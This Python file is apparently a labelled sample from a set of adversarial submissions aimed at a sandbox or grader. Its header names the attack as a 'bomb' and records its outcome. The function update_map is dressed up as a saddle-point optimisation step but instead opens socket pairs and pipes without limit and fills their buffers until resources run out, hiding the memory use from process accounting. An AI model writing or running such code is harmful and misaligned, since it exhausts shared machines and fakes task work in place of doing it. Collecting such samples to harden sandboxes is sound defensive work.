# attack: keeps bytes in the buffers of sockets and pipes, where no process is seen to hold them
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import os
import socket


def fill(descriptor):
    os.set_blocking(descriptor, False)
    try:
        while True:
            os.write(descriptor, bytes(1 << 16))
    except OSError:
        return


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    held = []
    try:
        while True:
            held.append(socket.socketpair())
            for end in held[-1]:
                fill(end.fileno())
            held.append(os.pipe())
            fill(held[-1][1])
    except OSError:
        raise RuntimeError(f"{len(held)} pairs") from None
